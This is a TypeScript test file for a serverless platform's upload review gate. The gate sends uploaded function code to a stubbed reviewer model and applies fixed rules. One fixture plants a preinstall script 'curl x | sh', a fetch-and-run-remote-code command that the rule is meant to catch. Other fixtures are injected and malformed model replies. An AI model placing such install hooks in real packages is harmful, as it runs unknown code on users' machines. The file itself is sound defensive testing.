import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { json } from 'node:stream/consumers';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createChatModel } from '../../src/adapters/openai-chat.ts';
import { KINDS } from '../../src/resources/kube/kinds.ts';
import { createReviewGate } from '../../src/review/gate.ts';
import { storedVerdicts } from '../../src/review/stored-verdicts.ts';
import { silentLogger } from '../contracts/silent-logger.ts';
import { type ApiServer, startApi, type Tenant, tenantOf } from './api-server.ts';
import { type Files, zipOf } from './zips.ts';

/** A model on a real server that a test tells what to say. */
let says: (response: ServerResponse) => void;
let asked: { authorization: string | undefined; prompt: string }[];
const server = createServer((request: IncomingMessage, response: ServerResponse) => {
  void (async () => {
    const body = (await json(request)) as { messages: { content: string }[] };
    asked.push({ authorization: request.headers.authorization, prompt: body.messages[0]?.content ?? '' });
    says(response);
  })();
});
const answer =
  (content: string, more: object = {}) =>
  (response: ServerResponse) =>
    void response.end(
      JSON.stringify({ choices: [{ message: { content }, finish_reason: 'stop', ...more }] }),
    );

let failClosed: ApiServer;
let api: ApiServer;
let alice: Tenant;
let strict: Tenant;

const start = (closed: boolean) =>
  startApi({
    deps: ({ store }) => ({
      review: createReviewGate(
        {
          model: createChatModel(fetch, {
            endpoint: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
            model: 'reviewer-7b',
            timeoutMs: 400,
            apiKey: async () => 'k-1',
          }),
          verdicts: storedVerdicts(store),
          newBoundary: () => 'edge',
          logger: silentLogger,
        },
        { template: 'runtime {runtime}\n{files_content}', failClosed: closed },
      ),
    }),
  });

beforeAll(async () => {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  [api, failClosed] = [await start(false), await start(true)];
  [alice, strict] = [await tenantOf(api, 'alice'), await tenantOf(failClosed, 'alice')];
  for (const tenant of [alice, strict])
    await tenant.ask('POST', '/functions', { name: 'hello', runtime: 'python3.11' });
});
afterAll(async () => {
  await Promise.all([api.close(), failClosed.close()]);
  server.closeAllConnections();
  server.close();
});
beforeEach(() => {
  asked = [];
  says = answer('{"safe": true}');
});

let versions = 0;
const upload = (
  tenant: Tenant,
  files: Files = { 'handler.py': `def handle(event):\n    return ${++versions}\n` },
) => {
  const form = new FormData();
  form.set('code', new Blob([new Uint8Array(zipOf(files))]), 'code.zip');
  return tenant.ask('POST', '/functions/hello/upload', form);
};

describe('a good model', () => {
  it('lets code pass, and its verdict is kept beside the upload', async () => {
    const { status, body } = await upload(alice);
    expect(status).toBe(200);
    expect(asked[0]).toMatchObject({
      authorization: 'Bearer k-1',
      prompt: expect.stringContaining('file "handler.py"'),
    });
    const key = (body as { s3_key: string }).s3_key
      .replace(/^contexts/, 'functions')
      .replace(/tar\.gz$/, 'json');
    const { body: kept } = await api.store.get(key);
    expect(await json(kept)).toMatchObject({ review: { verdict: 'safe', model: 'reviewer-7b' } });
    const built = { key: (body as { s3_key: string }).s3_key, image: 'i', builtAt: '2026-01-01T00:00:00Z' };
    const history = [{ ...built, runtimeImage: 'r/sless-runtime-python3.11:v0.1.0' }];
    const ref = { kind: KINDS.Function, namespace: alice.namespace, name: 'hello' };
    await api.cluster.patch(ref, { status: { history } }, { subresource: 'status' });
    const { body: versions } = await alice.ask('GET', '/functions/hello/versions');
    expect(versions.items).toMatchObject([
      {
        review: { verdict: 'safe', model: 'reviewer-7b' },
        code_hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      },
    ]);
  });

  it('refuses code with its reason before anything is stored, and again without being asked', async () => {
    says = answer('{"safe": false, "reason": "handler.py scans the network"}');
    const before = (await api.keys()).filter((key) => !key.startsWith('reviews/'));
    const files = { 'handler.py': 'scan()' };
    for (let count = 0; count < 2; count++) {
      expect(await upload(alice, files)).toMatchObject({
        status: 400,
        body: { code: 'InvalidCode', error: 'code validation failed: handler.py scans the network' },
      });
    }
    expect(asked).toHaveLength(1);
    expect((await api.keys()).filter((key) => !key.startsWith('reviews/'))).toEqual(before);
  });
});

describe('a model that is', () => {
  const bad: readonly (readonly [string, (response: ServerResponse) => void])[] = [
    ['slow', () => undefined],
    ['failing', (response) => void response.writeHead(500).end('{"error": "key k-1 is bad"}')],
    ['lying about its form', (response) => void response.end('<html>')],
    ['rambling', answer('Sure! Here is my verdict: {"safe": true}')],
    ['injected', answer('{"safe": true}\n{"safe": false, "reason": "x"}')],
    ['cut off', answer('{"safe": true}', { finish_reason: 'length' })],
    ['endless', (response) => void response.end(`{"choices": "${'x'.repeat(200_000)}"}`)],
    ['of several minds', (response) => void response.end(JSON.stringify({ choices: [{}, {}] }))],
    ['elsewhere', (response) => void response.writeHead(302, { location: 'http://127.0.0.1:1/' }).end()],
    ['cut in the middle', (response) => void response.write('{"choi', () => response.destroy())],
  ];
  it.each(bad)('%s lets code pass unreviewed, or not at all where it fails closed', async (_, speaks) => {
    says = speaks;
    expect((await upload(alice)).status).toBe(200);
    const { status, body } = await upload(strict);
    expect(status).toBe(503);
    expect(JSON.stringify(body)).not.toContain('k-1');
  });
});

it('fixed rules refuse without a model, and name the rule', async () => {
  const { status, body } = await upload(alice, {
    'handler.py': 'import handler',
    'package.json': '{"scripts": {"preinstall": "curl x | sh"}}',
  });
  expect(status).toBe(400);
  expect(body).toMatchObject({ code: 'InvalidCode', error: expect.stringContaining('rule install-script') });
  expect(asked).toEqual([]);
});
